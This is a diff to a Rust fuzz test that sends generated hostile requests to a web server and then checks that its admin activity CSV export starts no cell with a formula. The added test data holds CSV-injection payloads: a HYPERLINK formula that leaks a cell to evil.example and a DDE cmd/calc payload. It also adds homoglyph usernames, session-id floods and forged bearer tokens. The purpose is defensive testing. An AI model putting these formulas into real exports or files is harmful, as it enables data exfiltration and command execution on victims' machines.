@@ -51,8 +51,24 @@ const BAD_NEXT: &[&str] = &[
     "/\t/evil.com",
 ];
 
+/// User agents a spreadsheet would run as formulas (OWASP CSV injection).
+const FORMULAS: &[&str] = &[
+    "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\u{ff1d}1+1",
+    "\t=1",
+];
+
+/// Names that look like `alice`: case, width, another script.
+const LOOK_ALIKES: &[&str] = &["ALICE", "Alice", "ａｌｉｃｅ", "\u{430}lice", "al\u{456}ce"];
+
 const PATHS: &[&str] = &[
     "/",
+    "/metrics",
+    "/account/password",
+    "/account",
     "/sign-in",
     "/sign-in/",
     "/home",
@@ -154,6 +170,17 @@ fn generate(
         ),
         3 => format!("/{}", percent(&printable(rng, 300)).replace("%2F", "/")),
         4 => format!("/home{}", "/".repeat(rng.gen_range(0..4))),
+        // Many session ids at once, distinct or repeated (capped at 100 distinct).
+        5 if rng.gen_bool(0.3) => {
+            let distinct = rng.gen_bool(0.5);
+            let ids = (0..rng.gen_range(50..400))
+                .map(|i| {
+                    let id = if distinct { i } else { 7 };
+                    format!("token_id={id:064x}")
+                })
+                .collect::<Vec<_>>();
+            format!("/api/v1/sessions?{}", ids.join("&"))
+        }
         _ => (*PATHS.choose(rng).unwrap()).to_owned(),
     };
     if rng.gen_bool(0.05) {
@@ -226,13 +253,21 @@ fn generate(
                 rng.gen::<u8>()
             ),
         };
+        let xff = if rng.gen_bool(0.3) {
+            // One IPv6 site, spread over its /64 networks.
+            format!("2001:db8:5:{:x}::{:x}", rng.gen::<u16>(), rng.gen::<u16>())
+        } else {
+            xff
+        };
         req = header(req, "x-forwarded-for", xff);
     }
     if rng.gen_bool(0.3) {
-        let ua = match rng.gen_range(0..4) {
+        let ua = match rng.gen_range(0..5) {
             0 => String::new(),
             1 => "x".repeat(8 * 1024),
             2 => printable(rng, 300),
+            // Spreadsheet formulas, for the activity export.
+            3 => (*FORMULAS.choose(rng).unwrap()).to_owned(),
             _ => CHROME_UA.to_owned(),
         };
         req = header(req, "user-agent", ua);
@@ -265,6 +300,7 @@ fn generate(
             4 => format!("Bearer eyJhbGciOiJub25lIn0.{}.", segment(rng)),
             5 => format!("Bearer {}", "x".repeat(rng.gen_range(4_000..9_000))),
             6 => format!("Basic {}", printable(rng, 40)),
+            7 if rng.gen_bool(0.3) => format!("Bearer metrics-{}", printable(rng, 20)),
             _ => printable(rng, 100),
         };
         req = header(req, "authorization", value);
@@ -282,8 +318,14 @@ fn generate(
                 } else {
                     anything(rng, 40)
                 };
+                let username = match rng.gen_range(0..4) {
+                    // Look-alikes of the account, and a name far past the longest.
+                    0 => (*LOOK_ALIKES.choose(rng).unwrap()).to_owned(),
+                    1 if rng.gen_bool(0.1) => "ä".repeat(rng.gen_range(100..20_000)),
+                    _ => anything(rng, 80),
+                };
                 let mut fields = vec![
-                    ("username".to_owned(), anything(rng, 80)),
+                    ("username".to_owned(), username),
                     ("password".to_owned(), password),
                     (
                         "next".to_owned(),
@@ -382,7 +424,19 @@ async fn generated_hostile_requests_never_break_the_server(db: TestDb) {
     let mut in_flight = tokio::task::JoinSet::new();
     for case in 0..cases {
         let (req, described) = generate(&mut rng, &ctx, &client);
-        in_flight.spawn(async move { (case, described, req.send().await) });
+        in_flight.spawn(async move {
+            // A server may answer (405, 413…) and close before it has read a body the client
+            // is still writing; the client then sees a send error. Sent again, a server that
+            // is still up answers; one that fell over does not.
+            let again = req.try_clone();
+            let mut sent = req.send().await;
+            if let (Err(err), Some(again)) = (&sent, again) {
+                if err.is_request() {
+                    sent = again.send().await;
+                }
+            }
+            (case, described, sent)
+        });
         if in_flight.len() >= 16 {
             collect(in_flight.join_next().await, &mut statuses, &mut failures);
         }
@@ -400,6 +454,25 @@ async fn generated_hostile_requests_never_break_the_server(db: TestDb) {
     assert_eq!(PANICS.load(Ordering::SeqCst), 0, "the server panicked");
     let health = browser().get(app.url("/healthz")).send().await.unwrap();
     assert_eq!(health.status(), 200, "still serving");
+    // Whatever the requests wrote to the audit log, its export starts no cell with a formula.
+    let csv = admin
+        .get(app.url("/admin/activity.csv?limit=10000"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    for cell in csv::Reader::from_reader(csv.as_bytes())
+        .records()
+        .flatten()
+        .flat_map(|record| record.iter().map(str::to_owned).collect::<Vec<_>>())
+    {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']),
+            "a formula in the export: {cell:?}"
+        );
+    }
     assert_eq!(statuses.values().sum::<usize>(), cases);
 }
 
